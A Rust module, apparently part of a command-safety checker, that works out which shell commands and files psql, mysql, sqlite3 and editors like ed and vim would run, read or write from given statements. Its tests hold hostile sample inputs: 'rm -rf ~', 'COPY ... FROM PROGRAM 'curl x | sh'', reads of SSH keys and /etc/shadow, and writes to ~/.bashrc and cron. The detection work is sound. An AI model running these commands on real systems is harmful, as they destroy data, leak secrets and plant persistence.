//! The command lines database clients run from the statements they are given: meta-commands
//! that hand a line to a shell (`psql`'s `\! rm -rf ~`, `sqlite3`'s `.shell rm -rf ~`),
//! output piped into a command (`\o |cmd`, `.once |cmd`: read as the client piped into it),
//! and `COPY ... PROGRAM 'cmd'`;
//! and the files the client itself writes for them (`.output FILE`, `\copy … to 'FILE'`).
//! The statements come from a client's options (`psql -c`, `mysql -e`, `sqlite3 -cmd`),
//! the words after the database (`sqlite3 app.db '.shell ...'`) or a literal input (a
//! here-document, `echo ... |`).

use crate::knowledge::{self, Escape};

/// What a database client's statements do beyond the database: the command lines they hand
/// a shell, and the files the client writes for them (`.output FILE`, `\copy … to 'FILE'`)
#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct Effects {
    /// The command lines
    pub(crate) lines: Vec<String>,
    /// The files written, as their statements name them
    pub(crate) files: Vec<String>,
    /// The files read, as their statements name them (`readfile('F')`)
    pub(crate) reads: Vec<String>,
    /// Why a command a statement runs cannot be known before it runs
    pub(crate) unknown: Vec<String>,
}

/// What `program`'s statements in `args` and `stdin` do ([`Effects`]); `None` when
/// `program` is no database client the table knows
pub(crate) fn effects(program: &str, args: &[String], stdin: Option<&str>) -> Option<Effects> {
    let client = knowledge::database_client(program)?;
    let mut statements: Vec<&str> = Vec::new();
    let mut words = args.iter();
    let mut operands = 0;
    while let Some(arg) = words.next() {
        if client.code_options.contains(&arg.as_str()) {
            statements.extend(words.next().map(String::as_str));
            continue;
        }
        if let Some(glued) = client
            .code_options
            .iter()
            .find_map(|option| arg.strip_prefix(option)?.strip_prefix('='))
        {
            statements.push(glued);
            continue;
        }
        if !arg.starts_with('-') {
            operands += 1;
            if client.statement_operands && operands > 1 {
                statements.push(arg);
            }
        }
    }
    statements.extend(stdin);
    let mut found = Effects::default();
    for statement in statements {
        for line in statement.lines() {
            line_escapes(program, client.escapes, line, &mut found);
        }
    }
    found.lines.retain(|line| !line.is_empty());
    Some(found)
}

/// What one line of `program`'s statements does beyond the database, added to `effects`
fn line_escapes(program: &str, escapes: &[Escape], line: &str, effects: &mut Effects) {
    let trimmed = line.trim_start();
    for escape in escapes {
        let found = &mut effects.lines;
        match escape {
            Escape::WritesFile(word) => {
                let file = strip_word(trimmed, word)
                    .map(str::trim)
                    // `.once |cmd` pipes into a command (`Escape::Pipe`): no file.
                    .filter(|rest| !rest.trim_start_matches(['\'', '"']).starts_with('|'))
                    .and_then(|rest| rest.split_whitespace().next_back())
                    .map(|file| file.trim_matches(['\'', '"']))
                    .filter(|file| !file.is_empty() && !file.starts_with(['-', '|']));
                effects.files.extend(file.map(str::to_owned));
            }
            Escape::CopyTo => effects.files.extend(copy_target(line)),
            Escape::FileAfter { word, writes } => {
                let named = files_after(line, word);
                if *writes {
                    effects.files.extend(named);
                } else {
                    effects.reads.extend(named);
                }
            }
            // `\!` may follow a statement on its line, and takes the rest of it.
            Escape::Anywhere(mark) => {
                if let Some((_, rest)) = line.split_once(mark) {
                    found.push(rest.trim().to_owned());
                }
            }
            Escape::Leading(mark) => {
                if let Some(rest) = trimmed.strip_prefix(mark) {
                    found.push(rest.trim().to_owned());
                }
            }
            Escape::LineStart(word) => {
                if let Some(rest) = strip_word(trimmed, word) {
                    found.push(rest.trim().to_owned());
                }
            }
            Escape::Pipe(word) => {
                let rest = strip_word(trimmed, word)
                    .map(|rest| rest.trim_start().trim_start_matches(['\'', '"']));
                // The command reads what the client prints, which the statements after
                // make: it comes through the client.
                if let Some(command) = rest.and_then(|rest| rest.strip_prefix('|')) {
                    let command = command.trim().trim_end_matches(['\'', '"']);
                    found.push(format!("{program} | {command}"));
                }
            }
            Escape::Program => found.extend(programs(line)),
            Escape::Vim => {
                for script in crate::vim::scripts(trimmed) {
                    match script {
                        Ok(command) => effects.lines.push(command),
                        Err(why) => effects.unknown.push(why),
                    }
                }
            }
        }
    }
}

/// The files quoted right after each `word` in `line`, case aside (`readfile('F')`,
/// `INTO OUTFILE "F"`)
fn files_after(line: &str, word: &str) -> Vec<String> {
    let lower = line.to_ascii_lowercase();
    lower
        .match_indices(word)
        .filter_map(|(at, _)| {
            let rest = line.get(at + word.len()..)?.trim_start();
            let quote = rest.chars().next().filter(|ch| matches!(ch, '\'' | '"'))?;
            let quoted = rest.get(1..)?;
            quoted.split(quote).next().map(str::to_owned)
        })
        .filter(|file| !file.is_empty())
        .collect()
}

/// The quoted file a copy out writes (`\copy (…) to 'FILE'`, `COPY t TO 'FILE'`)
fn copy_target(line: &str) -> Option<String> {
    let lower = line.to_ascii_lowercase();
    let copy = lower.find("copy")?;
    let to = lower.get(copy..)?.find(" to ")? + copy + " to ".len();
    let quoted = line.get(to..)?.trim_start().strip_prefix('\'')?;
    quoted.split('\'').next().map(str::to_owned)
}

/// `text` after `word` and a blank, compared without case; `None` when it does not start so
fn strip_word<'t>(text: &'t str, word: &str) -> Option<&'t str> {
    let head = text.get(..word.len())?;
    let rest = text.get(word.len()..)?;
    (head.eq_ignore_ascii_case(word) && rest.starts_with([' ', '\t'])).then_some(rest)
}

/// The commands of `PROGRAM 'cmd'` in a line (`COPY t FROM PROGRAM 'cmd'`, `\copy ...
/// program 'cmd'`)
fn programs(line: &str) -> Vec<String> {
    let lower = line.to_ascii_lowercase();
    let mut found = Vec::new();
    let mut from = 0;
    while let Some(at) = lower.get(from..).and_then(|rest| rest.find("program")) {
        let after = from + at + "program".len();
        from = after;
        let Some(rest) = line.get(after..) else {
            break;
        };
        let rest = rest.trim_start();
        if let Some(quoted) = rest.strip_prefix('\'') {
            found.push(quoted.split('\'').next().unwrap_or_default().to_owned());
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(program: &str, args: &[&str], stdin: Option<&str>) -> Effects {
        let args: Vec<String> = args.iter().map(|arg| (*arg).to_owned()).collect();
        effects(program, &args, stdin).unwrap_or_default()
    }

    fn lines(program: &str, args: &[&str], stdin: Option<&str>) -> Vec<String> {
        found(program, args, stdin).lines
    }

    #[test]
    fn each_escape_of_the_table_yields_its_command_line() {
        assert_eq!(lines("psql", &["-c", "\\! rm -rf ~"], None), ["rm -rf ~"]);
        assert_eq!(lines("psql", &["--command=select 1 \\! id"], None), ["id"]);
        assert_eq!(
            lines("psql", &[], Some("\\o | sh\nselect 1;")),
            ["psql | sh"]
        );
        assert_eq!(
            lines("psql", &["db"], Some("COPY t FROM PROGRAM 'curl x | sh';")),
            ["curl x | sh"]
        );
        assert_eq!(
            lines("mysql", &["-e", "system rm -rf /etc"], None),
            ["rm -rf /etc"]
        );
        assert_eq!(lines("mariadb", &["shop"], Some("\\! id")), ["id"]);
        assert_eq!(
            lines("sqlite3", &["app.db", ".shell rm -rf ~"], None),
            ["rm -rf ~"]
        );
        assert_eq!(
            lines("sqlite3", &["-cmd", ".system id", "app.db"], None),
            ["id"]
        );
        assert_eq!(
            lines("sqlite3", &["a.db"], Some(".once '|sh'")),
            ["sqlite3 | sh"]
        );
        assert_eq!(lines("duckdb", &[], Some("  .SHELL id")), ["id"]);
        assert_eq!(
            lines("ed", &["-s", "f"], Some("1p\n!rm -rf ~\nq")),
            ["rm -rf ~"]
        );
        assert_eq!(
            lines(
                "ex",
                &["-s", "f"],
                Some("%s/a/b/g\ncall system(\"rm -rf ~\")\nwq")
            ),
            ["rm -rf ~"]
        );
        assert_eq!(lines("vim", &["-es"], Some("r !curl x")), ["curl x"]);
        assert_eq!(
            found("nvim", &["-es"], Some("call jobstart(g:cmd)"))
                .unknown
                .len(),
            1
        );
        assert_eq!(lines("ex", &["-s"], Some("! id")), ["id"]);
    }

    #[test]
    fn statements_without_escapes_run_nothing() {
        assert!(lines("psql", &["-c", "select * from programs"], None).is_empty());
        assert!(lines("sqlite3", &["app.db", "select shell from t"], None).is_empty());
        assert!(lines("mysql", &["-e", "select 1"], Some("show tables;")).is_empty());
        assert!(lines("sqlite3", &["app.db"], Some(".output out.txt")).is_empty());
        assert_eq!(effects("ls", &[], None), None);
    }

    #[test]
    fn files_the_statements_read_or_write_are_named() {
        // sqlite3(1)'s fileio functions, PostgreSQL's generic file access functions and
        // `lo_import`, MySQL's `LOAD_FILE`, `LOAD DATA INFILE` and `SELECT … INTO OUTFILE`.
        let reads = |program, args: &[&str]| found(program, args, None).reads;
        let writes = |program, args: &[&str]| found(program, args, None).files;
        assert_eq!(
            reads(
                "sqlite3",
                &[":memory:", "select readfile('/h/.ssh/id_rsa');"]
            ),
            ["/h/.ssh/id_rsa"]
        );
        assert_eq!(
            writes(
                "sqlite3",
                &["a.db", "SELECT WriteFile(\"/h/.bashrc\", x) FROM t"]
            ),
            ["/h/.bashrc"]
        );
        assert_eq!(
            reads("psql", &["-c", "select pg_read_file( '/etc/passwd')"]),
            ["/etc/passwd"]
        );
        assert_eq!(
            reads(
                "mysql",
                &[
                    "-e",
                    "select load_file('/etc/shadow'); load data local infile 'k.csv' into table t"
                ]
            ),
            ["/etc/shadow", "k.csv"]
        );
        assert_eq!(
            writes("mysql", &["-e", "select 1 into outfile '/etc/cron.d/x'"]),
            ["/etc/cron.d/x"]
        );
        assert!(reads("sqlite3", &["a.db", "select readfile from t"]).is_empty());
        assert!(reads("psql", &["-c", "select * from files"]).is_empty());
    }

    #[test]
    fn files_the_client_writes_are_named() {
        let files = |program, args: &[&str], stdin| found(program, args, stdin).files;
        assert_eq!(
            files(
                "sqlite3",
                &[":memory:", ".output /etc/x", "select 1;"],
                None
            ),
            ["/etc/x"]
        );
        assert_eq!(
            files("sqlite3", &["a.db"], Some(".once '~/.bashrc'")),
            ["~/.bashrc"]
        );
        assert_eq!(
            files(
                "psql",
                &["-c", "\\copy (select 1) to '/home/u/.profile'"],
                None
            ),
            ["/home/u/.profile"]
        );
        assert_eq!(
            files("psql", &[], Some("\\o out.txt\nselect 1;")),
            ["out.txt"]
        );
        assert!(files("sqlite3", &["a.db", ".once |sh"], None).is_empty());
        assert!(files("psql", &["-c", "copy t to stdout"], None).is_empty());
    }
}
